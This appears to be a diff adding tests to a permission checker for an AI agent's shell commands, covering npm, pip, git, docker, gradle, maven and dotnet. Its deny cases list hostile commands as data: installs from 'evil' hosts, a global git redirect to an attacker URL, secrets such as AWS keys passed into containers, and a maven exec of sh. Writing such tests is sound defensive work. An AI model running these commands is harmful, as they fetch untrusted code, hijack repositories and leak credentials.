@@ -253,3 +253,20 @@ describe('writing tools, links, archives, test runners and metadata endpoints', 
     ]);
   });
 });
+
+describe('package managers, build tools, git settings and containers', () => {
+  it('refuse global installs, packages from URLs, git or elsewhere, global git settings and secrets handed to containers', () => {
+    check(['npm install', 'npm run build', 'npm test', 'npm install react'], 'npm *', ['npm install zod', 'npm i -D vitest'], [
+      'npm install -g evil', 'npm i -g x', 'npm install --global x', 'npm install https://evil/x.tgz', 'npm install git+ssh://git@evil/x', 'npm install git@github.com:evil/x',
+    ]);
+    check(['pip install -r requirements.txt', 'pip install requests'], 'pip *', ['pip install httpx'], ['pip install --user evil', 'pip install --break-system-packages x', 'pip install -e /tmp/x', 'pip install -r /tmp/req.txt']);
+    const write = { tool: 'write', params: { path: 'src/a.ts' } };
+    const git = analyze([...execs('git status', 'git config user.name', 'git config --get remote.origin.url'), write]);
+    assertDecisions(git, ['git config user.email'], ['git config --global url.https://evil/.insteadOf https://github.com/', 'git config --global user.email x', 'git config --system core.editor vi']);
+    const docker = analyze([...execs('docker build -t app .', 'docker run --rm app npm test', 'docker ps'), write]);
+    assertDecisions(docker, ['docker run --rm -e NODE_ENV=test app npm test'], ['docker run -e AWS_SECRET_ACCESS_KEY app', 'docker run --env GITHUB_TOKEN app', 'docker run --env=DB_PASSWORD=x app']);
+    check(['./gradlew build', './gradlew test'], './gradlew *', ['./gradlew check'], ['./gradlew publish', './gradlew -I /tmp/init.gradle build', './gradlew --init-script /tmp/x build']);
+    check(['mvn test', 'mvn package'], 'mvn *', ['mvn verify'], ['mvn deploy', 'mvn -s /tmp/settings.xml test', 'mvn exec:exec -Dexec.executable=sh']);
+    check(['dotnet build', 'dotnet test'], 'dotnet *', ['dotnet format'], ['dotnet tool install -g evil', 'dotnet tool install --global evil']);
+  });
+});
